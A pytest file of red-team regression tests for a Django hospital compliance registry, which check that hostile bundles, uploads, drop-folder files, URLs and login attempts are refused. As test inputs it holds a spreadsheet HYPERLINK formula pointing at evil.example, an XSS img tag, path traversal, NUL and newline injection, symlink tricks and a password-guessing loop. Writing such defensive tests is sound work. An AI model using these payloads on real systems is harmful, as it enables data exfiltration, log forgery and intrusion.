"""The registry attacked as a hostile hospital (a valid key and upload token), a read-only inspector and an
unauthenticated visitor (benchmarks/redteam_registry.py lists every case tried). Each test here failed on the
code before its fix."""

from __future__ import annotations

import hashlib
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.http import HttpRequest
from django.test import Client

from ihcheck.registry.models import Action, Bundle, Finding, Hospital
from ihcheck.registry.services import enrol, intake
from tests.registry.conftest import USCC_A, Signed, stored_blobs
from tests.registry.conftest import enrol as enrol_hospital


def _digests(data: bytes) -> dict[str, Any]:
    return {"size": len(data), "sha256": hashlib.sha256(data).hexdigest(), "sm3": hashlib.new("sm3", data).hexdigest()}


def hostile(signed: Signed, edit: Any, *, scenario: str = "compliant", when: datetime | None = None) -> bytes:
    """A correctly signed bundle of `signed`'s hospital whose JSON files `edit(files)` changed: what a hospital
    holding its own key can hand in."""
    from ihcheck.registry.province import signed as resign
    from reports.verify import read_bundle

    files = read_bundle(signed.tar(scenario))
    docs = {rel: json.loads(files[rel]) for rel in ("result.json", "findings.json", "facts.json")}
    edit(docs)
    manifest = json.loads(files["manifest.json"])
    for rel, doc in docs.items():
        files[rel] = json.dumps(doc, ensure_ascii=False).encode()
        manifest["files"][rel] = _digests(files[rel])
    files["manifest.json"] = json.dumps(manifest).encode()
    return resign(files, signed.keys, when or datetime.now(UTC), "hostile")


@pytest.fixture
def hospital(db, hospital_a: Signed) -> Hospital:
    return enrol_hospital(USCC_A, hospital_a)


def _finding(d: dict[str, Any], key: str, value: Any) -> None:
    d["findings.json"][0][key] = value


def _rule(d: dict[str, Any], rule: str, verdict: str = "pass") -> None:
    d["result.json"]["summary"]["rules"][rule] = verdict


# What a hospital signing its own bundle can put in it that no column holds (PostgreSQL refused the row halfway
# through intake, after the blob was written; SQLite took some of it in).
INSANE = {
    "NUL in a reason": (lambda d: _finding(d, "reason", "a\x00b"), "finding 0: reason: .*NUL"),
    "NUL in a rule id": (lambda d: _rule(d, "GD\x00"), r"result.json: summary.rules"),
    "a verdict that is none": (lambda d: _finding(d, "verdict", "x" * 40), "finding 0: verdict"),
    "a summary verdict that is none": (lambda d: _rule(d, "GD2020-1.2.5-isps", "passed-by-me"), "summary.rules"),
    "a 200-character rule id": (lambda d: _rule(d, "R" * 200), "at most 80 characters"),
    "hosts that are a number": (lambda d: _finding(d, "hosts", 5), "finding 0: hosts"),
    "an evidence item that is a string": (lambda d: _finding(d, "evidence", ["x"]), "not shaped as ihcheck"),
    "a finish time that is not one": (lambda d: d["result.json"].__setitem__("finished_at", "yesterday"),
                                      "result.json: finished_at"),
    "a trail head seq that is text": (
        lambda d: d["facts.json"]["pilot"]["trail"]["check"].__setitem__("last_seq", "many"), "last_seq"),
}


@pytest.mark.parametrize("case", sorted(INSANE))
def test_a_signed_bundle_no_column_can_hold_is_refused_naming_the_field(
        case: str, hospital: Hospital, hospital_a: Signed, registry_data: Path) -> None:
    import re

    edit, pattern = INSANE[case]
    with pytest.raises(intake.Refused) as refused:
        intake.take(hostile(hospital_a, edit), name="h.tar.gz", via="http", actor="t", hospital=hospital)
    reason = str(refused.value)
    assert re.search(pattern, reason) and reason.startswith("h.tar.gz: ") and "\n" not in reason, reason
    assert Bundle.objects.count() == 0 and Finding.objects.count() == 0 and stored_blobs(registry_data) == []
    assert Action.objects.get(event="refuse").detail["reason"] == reason.replace("\x00", "\ufffd")


def test_a_bundle_signed_in_the_future_is_refused(hospital: Hospital, hospital_a: Signed, registry_data: Path) -> None:
    """Taken in, a bundle dated 2099 stayed the hospital's latest for ever: never stale, every later one hidden."""
    future = datetime(2099, 1, 1, tzinfo=UTC)
    with pytest.raises(intake.Refused, match="later than the registry's clock"):
        intake.take(hostile(hospital_a, lambda d: None, when=future), name="h.tar.gz", via="http", actor="t",
                    hospital=hospital)
    assert Bundle.objects.count() == 0 and stored_blobs(registry_data) == []
    soon = datetime.now(UTC) + timedelta(minutes=2)  # a hospital clock a little ahead is fine
    assert intake.take(hostile(hospital_a, lambda d: None, when=soon), name="h.tar.gz", via="http", actor="t",
                       hospital=hospital).created


def test_a_trail_head_stated_in_the_future_is_refused(hospital: Hospital, hospital_a: Signed, tmp_path: Path) -> None:
    from ihcheck.registry.models import TrailAnchor
    from ihcheck.registry.services import anchor
    from probes.trail import write_trail
    from reports import trail_head

    log = tmp_path / "audit.jsonl"
    write_trail(log, [{"at": "2026-11-01T09:00:00+08:00", "event": "visit.start", "visit": "V1"}])
    with pytest.raises(intake.Refused, match="later than the registry's clock"):
        anchor.submit_head(hospital, trail_head.make(log, hospital_a.keys, at=datetime(2099, 1, 1, tzinfo=UTC)),
                           actor="t")
    assert not TrailAnchor.objects.exists()


FORMULA = '=HYPERLINK("http://evil.example/"&A2,"open")'


def test_a_rule_id_that_is_markup_or_a_formula_is_refused(hospital: Hospital, hospital_a: Signed) -> None:
    for rule in (FORMULA, "<img src=x onerror=alert(1)>", "../../admin", "+1", "@SUM(A1)"):
        with pytest.raises(intake.Refused, match=r"summary\.rules"):
            intake.take(hostile(hospital_a, lambda d, r=rule: _rule(d, r)), name="h.tar.gz", via="http",
                        actor="t", hospital=hospital)
    assert not Bundle.objects.exists()


def test_the_xlsx_heading_is_text_too(hospital: Hospital, hospital_a: Signed) -> None:
    """The rule columns' heading names the rule ids bundles carry; it was appended raw, so a bundle taken in
    before ids were checked made a live formula in the regulator's spreadsheet."""
    import io

    from openpyxl import load_workbook

    from ihcheck.registry.services import exports

    intake.take_file(hospital_a.tar("compliant"), via="cli", actor="t")
    Bundle.objects.update(rules={FORMULA: "fail", "GD2020-1.2.5-isps": "pass"})  # a row from before the check
    sheet = load_workbook(io.BytesIO(exports.province_xlsx(actor="t"))).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row]
    assert FORMULA in [c.value for c in cells]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    text = exports.province_csv(actor="t")
    assert "'" + FORMULA.replace('"', '""') in text


def _visits(n: int, edited: int | None = None) -> list[dict[str, str]]:
    return [{"at": f"2026-11-01T09:{i:02d}:00+08:00", "event": "visit.start",
             "visit": "V-edited" if i == edited else f"V{i}"} for i in range(n)]


def test_a_rewritten_trail_cannot_be_laundered_through_a_head_sent_alone(
        hospital: Hospital, hospital_a: Signed, tmp_path: Path) -> None:
    """The head a new one had to extend was the last anchor not flagged, proven or not: a rewritten trail's head
    sent alone (not provable, so not flagged) became the base its log was checked against next, and the rewrite
    was never flagged."""
    from ihcheck.registry.services import anchor, queries
    from probes.trail import write_trail
    from reports import trail_head

    log = tmp_path / "audit.jsonl"
    write_trail(log, _visits(5))
    honest = anchor.submit_head(hospital, trail_head.make(log, hospital_a.keys), actor="t", log=log.read_bytes())
    assert honest.extends is True
    write_trail(log, _visits(8, edited=2))  # record 3 rewritten, the hashes after it recomputed
    alone = anchor.submit_head(hospital, trail_head.make(log, hospital_a.keys), actor="t")
    assert alone.extends is None  # a head alone further on: not provable either way
    write_trail(log, _visits(6, edited=2))  # behind the head just anchored: flagged at once
    assert anchor.submit_head(hospital, trail_head.make(log, hospital_a.keys), actor="t").extends is False
    write_trail(log, _visits(10, edited=2))
    laundered = anchor.submit_head(hospital, trail_head.make(log, hospital_a.keys), actor="t", log=log.read_bytes())
    assert laundered.extends is False and "record seq 5 now hashes to" in laundered.problem
    assert laundered.previous == honest
    assert queries.province()[0]["trail_flagged"]


def test_a_log_that_does_not_hold_a_head_anchored_since_is_flagged(
        hospital: Hospital, hospital_a: Signed, tmp_path: Path) -> None:
    from ihcheck.registry.services import anchor
    from probes.trail import write_trail
    from reports import trail_head

    log, other = tmp_path / "audit.jsonl", tmp_path / "other.jsonl"
    write_trail(log, _visits(5))
    anchor.submit_head(hospital, trail_head.make(log, hospital_a.keys), actor="t", log=log.read_bytes())
    write_trail(other, _visits(8, edited=6))  # a second trail sharing the first five records
    assert anchor.submit_head(hospital, trail_head.make(other, hospital_a.keys), actor="t").extends is None
    write_trail(log, _visits(9))  # the first trail, grown: it passes through seq 5 but not the head at seq 8
    grown = anchor.submit_head(hospital, trail_head.make(log, hospital_a.keys), actor="t", log=log.read_bytes())
    assert grown.extends is False and "record seq 8 now hashes to" in grown.problem


def test_nothing_dropped_in_the_folder_stops_the_watcher_or_reaches_beyond_it(
        hospital: Hospital, hospital_a: Signed, tmp_path: Path, registry_data: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    """A broken link, a folder, a FIFO, a link to a file elsewhere and a name with a line break, dropped by
    whoever may write the folder: before, the first of them stopped `registry watch` with a traceback (and a
    link was followed); now each is refused in one line and set aside, and the good bundle beside them taken in."""
    import os
    import shutil

    from ihcheck.cli import main

    drop = tmp_path / "drop"
    drop.mkdir()
    (drop / "0-broken.tar.gz").symlink_to(tmp_path / "nowhere")
    (drop / "1-folder.tar.gz").mkdir()
    (drop / "1-folder.tar.gz" / "x").symlink_to("/etc/hostname")
    os.mkfifo(drop / "2-fifo.tar.gz")
    (drop / "3-link.tar.gz").symlink_to(hospital_a.tar("compliant"))  # a file the dropper could not put here
    shutil.copy(hospital_a.tar("single-isp"), drop / "4-forged\ntaken in: x.tar.gz.tar.gz")
    shutil.copy(hospital_a.tar("compliant"), drop / "5-good.tar.gz")
    assert main(["registry", "watch", str(drop), "--once", "--settle", "0", "--data", str(registry_data)]) == 0
    said = capsys.readouterr()
    assert sorted(p.name for p in (drop / "taken").iterdir()) == ["4-forged\ntaken in: x.tar.gz.tar.gz", "5-good.tar.gz"]
    assert sorted(p.name for p in (drop / "refused").iterdir()) == [
        "0-broken.tar.gz", "1-folder.tar.gz", "2-fifo.tar.gz", "3-link.tar.gz"]
    assert not [line for line in said.out.splitlines() if line.startswith("taken in: x.tar.gz")], said.out
    assert "4-forged\ufffdtaken in" in said.out
    assert Bundle.objects.count() == 2 and set(Bundle.objects.values_list("via", flat=True)) == {"drop"}
    refusals = Action.objects.filter(event="refuse")
    assert refusals.count() == 4 and all(a.actor.startswith("drop:uid ") for a in refusals)


def test_a_drop_folder_whose_taken_is_a_link_is_refused(db, tmp_path: Path, registry_data: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    from ihcheck.cli import main

    drop, elsewhere = tmp_path / "drop", tmp_path / "elsewhere"
    drop.mkdir()
    elsewhere.mkdir()
    (drop / "taken").symlink_to(elsewhere)  # put there by whoever may write the drop folder
    assert main(["registry", "watch", str(drop), "--once", "--settle", "0", "--data", str(registry_data)]) == 65
    assert "taken: a symbolic link" in capsys.readouterr().err


PASSWORD = "correct horse battery staple"


@pytest.fixture
def inspector(hospital: Hospital, hospital_a: Signed) -> Client:
    intake.take_file(hospital_a.tar("compliant"), via="cli", actor="t")
    enrol.create_account("inspector1", PASSWORD, "inspector", actor="t")
    client = Client(raise_request_exception=False)
    assert client.login(request=HttpRequest(), username="inspector1", password=PASSWORD)
    return client


NUL_PATHS = ("/api/hospitals?city=%00", f"/api/deadlines?uscc={USCC_A}%00", "/hospitals/%00/", "/?city=%00",
             "/api/rules/x%00/hospitals", "/api/rules/GD2020-1.2.5-isps/hospitals?verdict=%00",
             f"/api/hospitals/{USCC_A}/drift?bundle=%00", f"/api/hospitals/{USCC_A}/oscal?bundle=%00",
             "/api/bundles/%00/findings/0", "/bundles/%00/findings/0/", "/rules/%00/",
             f"/hospitals/{USCC_A}/drift/%00/", "/api/export/province.csv?city=%00")
HUGE_DAYS = ("/api/hospitals?stale_days=99999999999", "/api/hospitals/stale?days=-99999999999",
             "/api/deadlines?horizon_days=99999999999")


def test_nul_in_a_path_or_query_is_a_400_on_both_databases(inspector: Client, backend: str) -> None:
    """PostgreSQL's text cannot hold NUL: each of these was a 500 there (SQLite said 404)."""
    assert {path: inspector.get(path).status_code for path in NUL_PATHS} == dict.fromkeys(NUL_PATHS, 400)


def test_a_period_of_days_is_bounded(inspector: Client) -> None:
    """10**11 days overflowed the date arithmetic: a 500."""
    assert {path: inspector.get(path).status_code for path in HUGE_DAYS} == dict.fromkeys(HUGE_DAYS, 422)
    assert inspector.get("/api/deadlines?horizon_days=365").status_code == 200


def test_the_openapi_document_is_for_regulators_only(inspector: Client) -> None:
    """"There is no unauthenticated path": the API's schema and its browser were one."""
    anonymous = Client()
    for path in ("/api/openapi.json", "/api/docs"):
        assert anonymous.get(path).status_code == 401, path
        assert inspector.get(path).status_code == 200, path


def test_a_name_with_a_line_break_cannot_split_a_refusal(hospital: Hospital, hospital_a: Signed) -> None:
    """?name= is the sender's: a refusal quoting it was two lines (the second one of the sender's choosing)."""
    from django.test import override_settings

    token = enrol.issue_token(hospital, actor="t")
    data = intake.pack(hospital_a.tar("compliant"))
    with override_settings(IHCHECK_MAX_UPLOAD_BYTES=len(data) - 1):  # refused before intake reads it
        response = Client().post("/api/bundles?name=x%0Aaccepted:%20all%20rules%20pass", data=data,
                                 content_type="application/gzip", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert response.status_code == 422
    for reason in (response.json()["refused"], Action.objects.get(event="refuse").detail["reason"]):
        assert "\n" not in reason and "x\ufffdaccepted" in reason, reason


def _many_members(count: int, folders: bool) -> bytes:
    import gzip
    import io
    import tarfile

    buffer = io.BytesIO()
    with gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as gz, tarfile.open(fileobj=gz, mode="w") as tar:
        for i in range(count):
            info = tarfile.TarInfo(f"b/d{i}" if folders else f"b/observations/{i}.json")
            info.type = tarfile.DIRTYPE if folders else tarfile.REGTYPE
            tar.addfile(info, None if folders else io.BytesIO(b""))
    return buffer.getvalue()


@pytest.mark.parametrize("folders", [False, True], ids=["files", "folders"])
def test_an_upload_of_many_empty_members_is_refused_before_it_is_parsed_whole(
        folders: bool, hospital: Hospital, registry_data: Path) -> None:
    """199,000 empty members gzip to under 1 MB and cost half a minute's CPU to parse; folders were not counted."""
    from django.test import override_settings

    with override_settings(IHCHECK_MAX_BUNDLE_MEMBERS=1_000), \
            pytest.raises(intake.Refused, match="more than 1000 members"):
        intake.take(_many_members(5_000, folders), name="many.tar.gz", via="http", actor="t", hospital=hospital)
    assert stored_blobs(registry_data) == []


def test_django_admin_writes_no_account_the_action_log_does_not_see(hospital: Hospital) -> None:
    """An administrator could make a superuser or change a password at /admin/auth/user/, unlogged."""
    from django.contrib.auth.models import Group, User

    enrol.create_account("admin1", PASSWORD, "administrator", actor="t")
    client = Client()
    assert client.login(request=HttpRequest(), username="admin1", password=PASSWORD)
    before = Action.objects.count()
    assert client.get("/admin/auth/user/").status_code == 200  # seen, read-only
    user = User.objects.get(username="admin1")
    for path, data in (("/admin/auth/user/add/", {"username": "mallory", "password1": PASSWORD,
                                                   "password2": PASSWORD}),
                       (f"/admin/auth/user/{user.pk}/password/", {"password1": "x" * 20, "password2": "x" * 20}),
                       (f"/admin/auth/user/{user.pk}/delete/", {"post": "yes"}),
                       ("/admin/auth/group/add/", {"name": "administrator2"})):
        assert client.post(path, data).status_code in (302, 403), path  # refused, or no such page: never done
    assert not User.objects.filter(username="mallory").exists() and Action.objects.count() == before
    assert User.objects.filter(username="admin1").exists() and not Group.objects.filter(name="administrator2")
    assert Client().login(request=HttpRequest(), username="admin1", password=PASSWORD)


def test_password_guessing_is_stopped_after_a_run_of_failures(hospital: Hospital) -> None:
    """No limit before: an unauthenticated visitor could guess for ever, each guess an Argon2id hash. Now the
    account locks after the configured run of failures (django-axes, counted in the database every worker shares),
    the right password is refused while it is locked, and it logs in again once the lockout is lifted."""
    from axes.utils import reset
    from django.conf import settings

    enrol.create_account("guessed", PASSWORD, "inspector", actor="t")
    visitor = Client()
    limit = int(settings.AXES_FAILURE_LIMIT)
    for n in range(limit - 1):
        assert visitor.post("/login/", {"username": "guessed", "password": f"guess {n}"}).status_code == 200
    assert visitor.post("/login/", {"username": "guessed", "password": "guess last"}).status_code == 429
    right = visitor.post("/login/", {"username": "guessed", "password": PASSWORD})
    assert right.status_code == 429 and "_auth_user_id" not in visitor.session, "refused while locked"
    reset(username="guessed")  # the cool-off over
    assert Client().post("/login/", {"username": "guessed", "password": PASSWORD}).status_code == 302


